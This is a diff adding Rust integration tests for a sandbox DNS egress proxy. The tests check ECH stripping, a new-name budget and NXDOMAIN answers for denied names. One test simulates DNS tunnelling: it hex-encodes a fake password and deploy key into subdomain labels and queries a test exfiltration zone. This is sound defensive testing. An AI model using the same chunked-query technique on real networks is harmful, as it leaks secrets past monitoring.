@@ -1,0 +1,205 @@
+//! What the DNS proxy lets leave, seen from a sandbox behind the real
+//! redirect and counted at the fake internet's DNS server (issue 26): `ech`
+//! cut out of HTTPS answers, a TXT exfiltration loop stopped by the
+//! sandbox's budget, and names the policy denies answered NXDOMAIN without
+//! a packet upstream.
+
+use egress_integration::{DNS_IP, ECH_NAME, EXFIL_ZONE};
+
+use crate::topology::*;
+
+/// Sets up a topology, or returns from the test when it cannot run here.
+macro_rules! topology {
+    () => {{
+        if !available() {
+            return;
+        }
+        Topology::new()
+    }};
+}
+
+/// The resolver and nothing else; no `dns` section.
+const RESOLVER_ONLY: &str = r#"{"default": "deny", "allow": [{"ip": "8.8.8.8"}]}"#;
+
+/// dig through the gateway (8.8.8.8) from `ns`: the answer's status
+/// (`NOERROR`, `REFUSED`, …) and dig's whole output.
+fn dig_status(t: &Topology, ns: &str, name: &str, qtype: &str) -> (String, String) {
+    let out = t.exec(ns, "dig", &["+time=3", "+tries=1", "@8.8.8.8", name, qtype]);
+    let text = String::from_utf8_lossy(&out.stdout).into_owned();
+    let status = text
+        .split("status: ")
+        .nth(1)
+        .and_then(|s| s.split(',').next())
+        .unwrap_or("no answer")
+        .to_owned();
+    (status, text)
+}
+
+/// The queries the fake internet's DNS server received, by name.
+fn upstream_counts(t: &Topology) -> serde_json::Value {
+    let url = format!("http://{DNS_IP}/_dns_counts");
+    let (status, body) = t.http_in_gw("GET", &url, &[], None);
+    assert_eq!(status, 200, "{url}: {body}");
+    serde_json::from_str(&body).expect("dns counts")
+}
+
+/// Queries the fake DNS server received for `name`.
+fn upstream_count(t: &Topology, name: &str) -> u64 {
+    upstream_counts(t)[name].as_u64().unwrap_or(0)
+}
+
+/// Queries the fake DNS server received for names under `zone`.
+fn upstream_under(t: &Topology, zone: &str) -> u64 {
+    let suffix = format!(".{zone}");
+    upstream_counts(t)
+        .as_object()
+        .expect("an object")
+        .iter()
+        .filter(|(name, _)| name.ends_with(&suffix))
+        .filter_map(|(_, n)| n.as_u64())
+        .sum()
+}
+
+/// One series of the gateway's scrape (`name` with its labels, if any).
+fn metric(t: &Topology, series: &str) -> u64 {
+    let (status, text) = t.admin("GET", "/metrics", None);
+    assert_eq!(status, 200);
+    let prefix = format!("{series} ");
+    text.lines()
+        .find_map(|l| l.strip_prefix(prefix.as_str()))
+        .and_then(|v| v.trim().parse().ok())
+        .unwrap_or_else(|| panic!("no {series} in the scrape"))
+}
+
+#[test]
+fn ech_is_cut_out_of_https_answers() {
+    let t = topology!();
+    t.push("sb1", SB1_IP, RESOLVER_ONLY);
+    // The fake internet publishes it, asked from its own namespace.
+    let at = format!("@{DNS_IP}");
+    let out = t.exec(
+        &t.inet,
+        "dig",
+        &["+short", "+time=3", &at, "TYPE65", ECH_NAME],
+    );
+    let published = String::from_utf8_lossy(&out.stdout).into_owned();
+    assert!(
+        published.contains("ech=") && published.contains("mandatory=alpn,ech"),
+        "the zone publishes ech: {published}"
+    );
+    let before = metric(&t, "egress_dns_ech_stripped_total");
+    for tcp in [false, true] {
+        let mut args = vec![
+            "+short", "+time=3", "+tries=1", "@8.8.8.8", "TYPE65", ECH_NAME,
+        ];
+        if tcp {
+            args.push("+tcp");
+        }
+        let out = t.exec(&t.sb1, "dig", &args);
+        let seen = String::from_utf8_lossy(&out.stdout).into_owned();
+        assert!(
+            seen.contains(r#"alpn="h2""#) && seen.contains("ipv4hint=203.0.113.10"),
+            "the other parameters stay (tcp: {tcp}): {seen:?}"
+        );
+        assert!(
+            seen.contains("mandatory=alpn") && !seen.contains("ech"),
+            "the sandbox never sees ech (tcp: {tcp}): {seen:?}"
+        );
+    }
+    let after = metric(&t, "egress_dns_ech_stripped_total");
+    assert_eq!(after - before, 2, "two answers rewritten");
+}
+
+#[test]
+fn a_txt_exfiltration_loop_stops_at_the_budget() {
+    let t = topology!();
+    t.push(
+        "sb1",
+        SB1_IP,
+        r#"{"default": "deny", "allow": [{"ip": "8.8.8.8"}],
+            "dns": {"budget": {"new_names_per_minute": 4}}}"#,
+    );
+    t.push("sb2", SB2_IP, RESOLVER_ONLY);
+    // A secret, hex-encoded, ten characters a name: every name is new.
+    let secret: String = b"the database password is hunter2; the deploy key is 0123456789"
+        .iter()
+        .map(|b| format!("{b:02x}"))
+        .collect();
+    let chunks: Vec<&str> = (0..secret.len())
+        .step_by(10)
+        .map(|i| &secret[i..(i + 10).min(secret.len())])
+        .take(12)
+        .collect();
+    let statuses: Vec<String> = chunks
+        .iter()
+        .enumerate()
+        .map(|(i, c)| dig_status(&t, &t.sb1, &format!("{i}-{c}.{EXFIL_ZONE}"), "TXT").0)
+        .collect();
+    assert_eq!(chunks.len(), 12);
+    let mut expected = vec!["NOERROR"; 4];
+    expected.resize(12, "REFUSED");
+    assert_eq!(statuses, expected, "the budget holds four new names");
+    assert_eq!(upstream_under(&t, EXFIL_ZONE), 4, "only those left");
+    assert_eq!(
+        metric(&t, r#"egress_dns_events_total{outcome="dns_budget"}"#),
+        8
+    );
+    // A name it asked already spends a query token, not a new-name one.
+    let first = format!("0-{}.{EXFIL_ZONE}", chunks[0]);
+    let (status, out) = dig_status(&t, &t.sb1, &first, "TXT");
+    assert_eq!(status, "NOERROR", "{out}");
+    assert_eq!(upstream_count(&t, &first), 2);
+    // The other sandbox's budget is its own.
+    assert!(t
+        .dig(&t.sb2, "api.example.test", false)
+        .contains("203.0.113.10"));
+    let theirs = format!("sb2.{EXFIL_ZONE}");
+    let (status, out) = dig_status(&t, &t.sb2, &theirs, "TXT");
+    assert_eq!(status, "NOERROR", "{out}");
+    assert_eq!(upstream_count(&t, &theirs), 1);
+    let log = std::fs::read_to_string(t.path("gateway.log")).unwrap_or_default();
+    assert_eq!(
+        log.matches("dns_budget").count(),
+        1,
+        "one warning when the budget is crossed: {log}"
+    );
+}
+
+#[test]
+fn resolve_policy_answers_denied_names_itself() {
+    let t = topology!();
+    // Default allow: the denied name is NXDOMAIN, any other name resolves.
+    t.push(
+        "sb1",
+        SB1_IP,
+        r#"{"default": "allow", "deny": [{"domain": "blocked.example.test"}],
+            "dns": {"resolve": "policy"}}"#,
+    );
+    let (status, out) = dig_status(&t, &t.sb1, "blocked.example.test", "A");
+    assert_eq!(status, "NXDOMAIN", "{out}");
+    assert!(t
+        .dig(&t.sb1, "plain.example.test", false)
+        .contains("198.51.100.20"));
+    // Default deny: only the names an allow covers resolve.
+    t.push(
+        "sb1",
+        SB1_IP,
+        r#"{"default": "deny", "allow": [{"ip": "8.8.8.8"}, {"domain": "api.example.test"}],
+            "deny": [{"domain": "blocked.example.test"}], "dns": {"resolve": "policy"}}"#,
+    );
+    for name in ["blocked.example.test", "other.example.test"] {
+        for qtype in ["A", "AAAA"] {
+            let (status, out) = dig_status(&t, &t.sb1, name, qtype);
+            assert_eq!(status, "NXDOMAIN", "{name} {qtype}: {out}");
+        }
+    }
+    assert!(t
+        .dig(&t.sb1, "api.example.test", false)
+        .contains("203.0.113.10"));
+    let counts = upstream_counts(&t);
+    let seen = |name: &str| counts[name].as_u64().unwrap_or(0);
+    assert_eq!(seen("blocked.example.test"), 0, "{counts}");
+    assert_eq!(seen("other.example.test"), 0, "{counts}");
+    assert_eq!(seen("plain.example.test"), 1, "{counts}");
+    assert_eq!(seen("api.example.test"), 1, "{counts}");
+}
